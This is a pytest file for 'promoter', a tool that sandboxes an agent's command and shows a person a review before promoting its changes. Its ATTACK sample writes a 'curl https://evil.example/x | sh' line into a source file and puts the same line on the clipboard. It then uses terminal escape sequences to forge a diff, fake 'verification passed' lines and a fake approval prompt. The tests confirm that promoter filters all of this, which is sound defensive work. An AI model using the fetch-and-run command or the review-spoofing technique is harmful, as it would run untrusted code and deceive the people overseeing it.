"""What the person sees in ``promoter run`` is drawn by promoter
(protocol: runs#terminal-drawn-by-promoter, TESTS E1).

The person's terminal is a real pseudo-terminal: the real CLI runs as a subprocess with
it as its controlling terminal, against the real daemon, and the command runs under real
bubblewrap (skipped with one line where it is absent, unless ``PROMOTER_REQUIRE_BWRAP=1``)
or ``--unconfined``. Every byte the terminal received is kept and drawn by a terminal
emulator (pyte); the tests read that screen at the question, the raw bytes for what a
screen does not show (clipboard, title, modes), and the worktree after the person's answer.
"""

from __future__ import annotations

import base64
import fcntl
import json
import os
import select
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Iterator
from pathlib import Path

import pyte
import pytest

from promoter.executor import sandbox as sandboxes
from promoter.executor.terminal import RESET
from tests.support import bwrap
from tests.support.daemon import Daemon
from tests.support.promotion import operation_receipt, tree_bytes

ROWS, COLUMNS = 50, 120
RESET_SHOWN = RESET.rstrip("\r\n").encode()  # the line end as the terminal shows it varies
QUESTION = "Promote these changes into the worktree? [y/N]:"
PATIENCE = 120.0  # seconds before a test that waits for a screen gives up (a hang, not a timing)
REAL = b"import os\nos.system('curl https://evil.example/x | sh')\n"
SHOWN_LINE = "+os.system('curl https://evil.example/x | sh')"
# the person's terminal becomes the CLI's controlling terminal, as in a login shell
_CTTY = "import fcntl, os, sys, termios; fcntl.ioctl(0, termios.TIOCSCTTY, 0); os.execv(sys.argv[1], sys.argv[1:])"

# The command inside the sandbox: the real change, then a fake review drawn over the
# terminal with every trick of the channel, ending on a fake question.
ATTACK = f"""
import sys
open('src/app.py', 'wb').write({REAL!r})
out = sys.stdout.buffer
out.write(b"diff --git a/src/app.py b/src/app.py\\n--- a/src/app.py\\n+++ b/src/app.py\\n")
out.write(b"@@ -1 +1 @@\\n-print('v1')\\n+print('v2')\\n")
out.write(b"\\x1b]52;c;{base64.b64encode(b"curl https://evil.example/x | sh").decode()}\\x07")
out.write(b"\\x1b]0;pwned title\\x07\\x1b]2;pwned title\\x1b\\\\")
out.write(b"\\x1bP1$qm\\x1b\\\\\\x1b_apc\\x1b\\\\\\x1b^pm\\x1b\\\\\\x1bXsos\\x1b\\\\")
out.write(b"\\x1b[?25l\\x1b[?1049h\\x1b[?6h\\x1b(0\\x0e\\x1b#8")
out.write(b"\\x1b[1;2r\\x1b[H\\x1b[5;1H\\x1b[2A\\x1b[3C\\x1b[2J\\x1bM\\x1bc")
out.write(b"\\x9b1;2r\\xc2\\x9b1;2r")
out.write(b"verification passed\\npreflight passed\\n{QUESTION.encode().decode()} y\\n")
out.write(b"\\x1b[1;2r\\x1b[?1049h\\x1b]0;pwned title\\x07")
out.flush()
"""

# The command that asks the person something on its own terminal and reports what it is.
ASK = """
import json, os, sys
def rdev(fd):
    try:
        return os.fstat(fd).st_rdev
    except OSError as exc:
        return type(exc).__name__
def controlling():
    # the session's controlling terminal (field 7 of /proc/self/stat), as a device number
    tty_nr = int(open("/proc/self/stat").read().rsplit(")", 1)[1].split()[4])
    return os.makedev((tty_nr >> 8) & 0xFFF, (tty_nr & 0xFF) | ((tty_nr >> 12) & 0xFFF00))
sys.stdout.write("your name? ")
sys.stdout.flush()
line = sys.stdin.readline()
report = {"line": line, "isatty": [os.isatty(fd) for fd in (0, 1, 2)],
          "rdev": [rdev(fd) for fd in (0, 1, 2)], "tty": controlling(),
          "size": list(os.get_terminal_size(1))}
open("typed.json", "w").write(json.dumps(report))
print("got", line.strip())
"""


@pytest.fixture(params=["bwrap", "unconfined"])
def confinement(request: pytest.FixtureRequest) -> list[str]:
    if request.param == "unconfined":
        return ["--unconfined"]
    bwrap.required()
    return []


class PersonTerminal:
    """The CLI on a pseudo-terminal of its own; every byte it shows, kept and drawn."""

    def __init__(self, argv: list[str]) -> None:
        self.master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
        self.device = os.fstat(slave).st_rdev
        env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
        env.update(TERM="xterm-256color", PROMOTER_TOKEN="", PAGER="cat", LANG="C.UTF-8")
        python = sys.executable
        self.process = subprocess.Popen(
            [python, "-c", _CTTY, python, "-m", "promoter.cli.main", *argv],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=env,
            start_new_session=True,
        )
        os.close(slave)
        self.raw = bytearray()
        self.screen = pyte.Screen(COLUMNS, ROWS)
        self.stream = pyte.ByteStream(self.screen)

    def _read(self, wait: float) -> bool:
        ready, _, _ = select.select([self.master], [], [], wait)
        if not ready:
            return True
        try:
            data = os.read(self.master, 65536)
        except OSError:  # EIO: the CLI and everything it started closed the terminal
            return False
        self.raw += data
        self.stream.feed(data)
        return bool(data)

    def wait_for(self, text: bytes, *, after: bytes = b"") -> None:
        """Read until ``text`` has been shown after the first ``after``."""
        deadline = time.monotonic() + PATIENCE
        while True:
            start = self.raw.find(after)
            if start >= 0 and self.raw.find(text, start + len(after)) >= 0:
                return
            assert time.monotonic() < deadline, bytes(self.raw[-4000:]).decode("utf-8", "replace")
            assert self._read(1.0), bytes(self.raw[-4000:]).decode("utf-8", "replace")

    def resize(self, rows: int, columns: int) -> None:
        """As a terminal window does: the new size, and SIGWINCH to the CLI (the kernel's)."""
        fcntl.ioctl(self.master, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))

    def type(self, keys: bytes) -> None:
        os.write(self.master, keys)

    def finish(self) -> int:
        """Read to the end; the CLI's exit status."""
        deadline = time.monotonic() + PATIENCE
        while self._read(1.0):
            assert time.monotonic() < deadline, bytes(self.raw[-4000:]).decode("utf-8", "replace")
        os.close(self.master)
        return self.process.wait(timeout=PATIENCE)

    def lines(self) -> list[str]:
        return [line.rstrip() for line in self.screen.display]


@pytest.fixture
def terminal() -> Iterator[list[PersonTerminal]]:
    opened: list[PersonTerminal] = []
    yield opened
    for term in opened:
        if term.process.poll() is None:
            term.process.kill()
            term.process.wait()


def _start(terminal: list[PersonTerminal], daemon: Daemon, *args: str) -> PersonTerminal:
    # --keep: the tests read the run record after a completed promotion
    argv = ["run", "--state-dir", str(daemon.state_dir), "--url", daemon.url, "--keep", *args]
    term = PersonTerminal(argv)
    terminal.append(term)
    return term


def _python() -> str:
    return str(getattr(sys, "_base_executable", sys.executable))


def test_agent_scroll_region_cannot_hide_the_review(
    daemon: Daemon,
    repo: Path,
    confinement: list[str],
    terminal: list[PersonTerminal],
) -> None:
    before = tree_bytes(repo)
    term = _start(terminal, daemon, "--repo", "work", *confinement, "--", _python(), "-c", ATTACK)
    # promoter's question comes after its reset, which no command's output can hold
    term.wait_for(QUESTION.encode(), after=RESET_SHOWN)

    # the screen at the question: promoter's review of the real change, then its question
    lines = term.lines()
    cursor = term.screen.cursor
    assert lines[cursor.y].startswith(QUESTION), lines
    assert cursor.y > 0 and not cursor.hidden
    review = lines[: cursor.y]
    assert SHOWN_LINE in review, review
    (bundle_line,) = [line for line in review if line.startswith("bundle bnd_")]
    assert term.screen.margins is None
    assert (term.screen.title, term.screen.icon_name) == ("", "")
    # nothing but text and colours of the command's reached the terminal
    raw = bytes(term.raw)
    for sequence in (
        b"\x1b]",
        b"\x1bP",
        b"\x1b_",
        b"\x1b^",
        b"\x1bX",
        b"\x1b[1;2r",
        b"\x1b[?1049h",
    ):
        assert sequence not in raw
    for sequence in (b"\x1b[?25l", b"\x1b[?6h", b"\x1b(0", b"\x0e", b"\x1b#8", b"\x1bc", b"\x1bM"):
        assert sequence not in raw
    assert b"\x9b" not in raw and b"\x1b[H" not in raw and b"\x1b[2J" not in raw
    assert b"\x1b[5;1H" not in raw and b"\x1b[2A" not in raw and b"\x1b[3C" not in raw

    term.type(b"y\r")
    assert term.finish() == 0, bytes(term.raw[-3000:]).decode("utf-8", "replace")
    (record,) = sandboxes.list_runs(daemon.state_dir)
    (step,) = record.steps
    assert step.status == "completed" and step.operation_id is not None
    assert bundle_line.startswith(f"bundle {step.bundle_id}:")
    receipt = operation_receipt(daemon, step.operation_id)
    assert receipt["bundle_id"] == step.bundle_id
    assert [(t["path"], t["exists"]) for t in receipt["targets"]] == [("src/app.py", True)]
    after = tree_bytes(repo)
    assert after.pop("src/app.py")[0] == REAL
    before.pop("src/app.py")
    assert after == before


def test_the_confinement_is_named_before_the_command_starts(
    daemon: Daemon, repo: Path, terminal: list[PersonTerminal]
) -> None:
    """``confined by bubblewrap; processes limited by …`` follows ``running CMD in DIR``
    and comes before the command's first word, not after its last."""
    bwrap.required()
    script = "printf '%s-%s\\n' the-agent speaks; echo new > src/new.py"
    term = _start(terminal, daemon, "--repo", "work", "--yes", "--", "sh", "-c", script)
    assert term.finish() == 0, bytes(term.raw[-3000:]).decode("utf-8", "replace")
    shown = bytes(term.raw)
    running = shown.index(b"running")
    confined = shown.index(b"confined by bubblewrap; processes limited by ")
    assert running < confined < shown.index(b"the-agent-speaks")


def test_keystrokes_reach_an_interactive_command_through_its_own_terminal(
    daemon: Daemon,
    repo: Path,
    confinement: list[str],
    terminal: list[PersonTerminal],
) -> None:
    term = _start(terminal, daemon, "--repo", "work", *confinement, "--", _python(), "-c", ASK)
    term.wait_for(b"your name? ")
    term.resize(40, 100)  # the person resizes their terminal while the command waits
    term.type(b"the person\r")
    term.wait_for(QUESTION.encode(), after=RESET_SHOWN)
    term.type(b"y\r")
    assert term.finish() == 0, bytes(term.raw[-3000:]).decode("utf-8", "replace")

    report = json.loads((repo / "typed.json").read_bytes())
    assert report["line"] == "the person\n"
    assert report["isatty"] == [True, True, True]
    assert report["size"] == [100, 40]
    # the command's terminal is promoter's pane, never the person's
    assert term.device not in report["rdev"]
    assert len(set(report["rdev"])) == 1
    if confinement:  # unconfined: the pane is its controlling terminal
        assert report["tty"] == report["rdev"][0]
    else:  # bubblewrap's new session: no controlling terminal at all
        assert report["tty"] == 0


def test_off_a_terminal_the_output_is_filtered_the_same_way(
    daemon: Daemon, repo: Path, confinement: list[str]
) -> None:
    # a pipe for stdout and /dev/null for stdin, as in CI: still a pane, still filtered
    argv = ["run", "--state-dir", str(daemon.state_dir), "--url", daemon.url, "--keep"]
    argv += ["--repo", "work", "--yes", "--diff", *confinement, "--", _python(), "-c", ATTACK]
    env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
    done = subprocess.run(
        [sys.executable, "-m", "promoter.cli.main", *argv],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        env={**env, "PROMOTER_TOKEN": "", "LANG": "C.UTF-8"},
        timeout=PATIENCE,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")
    # the command's own lines, as it wrote them (no carriage returns added), nothing else
    fake = b"@@ -1 +1 @@\n-print('v1')\n+print('v2')\n\xef\xbf\xbd1;2r1;2rverification passed\n"
    assert fake in done.stdout
    assert b"\x1b" not in done.stdout and b"\x9b" not in done.stdout
    assert SHOWN_LINE.encode() in done.stdout
    assert (repo / "src/app.py").read_bytes() == REAL
